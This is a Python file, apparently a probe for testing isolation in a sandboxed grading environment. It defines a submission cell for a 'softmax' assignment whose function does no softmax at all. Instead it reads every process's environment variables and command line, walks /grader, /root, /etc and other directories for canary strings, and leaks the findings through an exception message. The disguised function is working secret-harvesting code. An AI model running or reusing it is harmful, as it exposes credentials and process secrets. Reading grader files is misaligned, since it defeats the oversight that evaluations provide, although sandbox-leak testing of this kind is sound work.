"""Walk the visible filesystem and /proc (cwd, environ, cmdline, mounts) for canaries and secrets."""

ASSIGNMENT = "softmax"
CELLS = {
    "softmax": r'''
import os, time

def _scan():
    hits, deadline, seen = [], time.monotonic() + 4.0, 0
    roots = ["/work", "/root", "/home", "/tmp", "/srv", "/opt", "/mnt", "/sandbox", "/grader", "/etc"]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for f in ("cwd", "root"):
                roots.append(f"/proc/{pid}/{f}")
            for f in ("environ", "cmdline"):
                try:
                    hits.append(open(f"/proc/{pid}/{f}", "rb").read()[:300].decode(errors="replace"))
                except OSError:
                    pass
    try:
        hits.append(open("/proc/self/mountinfo").read()[:1000])
    except OSError:
        pass
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            for name in filenames:
                if time.monotonic() > deadline or seen > 20000:
                    return hits
                seen += 1
                p = os.path.join(dirpath, name)
                try:
                    if os.path.getsize(p) > 2_000_000:
                        continue
                    data = open(p, "rb").read()
                except OSError:
                    continue
                i = data.find(b"CANARY-")
                if i >= 0:
                    hits.insert(0, p + ": " + data[i:i + 80].decode(errors="replace"))
    return hits

def softmax(x, dim=-1, temperature=1.0):
    raise RuntimeError("LEAK " + " | ".join(_scan())[:2000])
''',
}
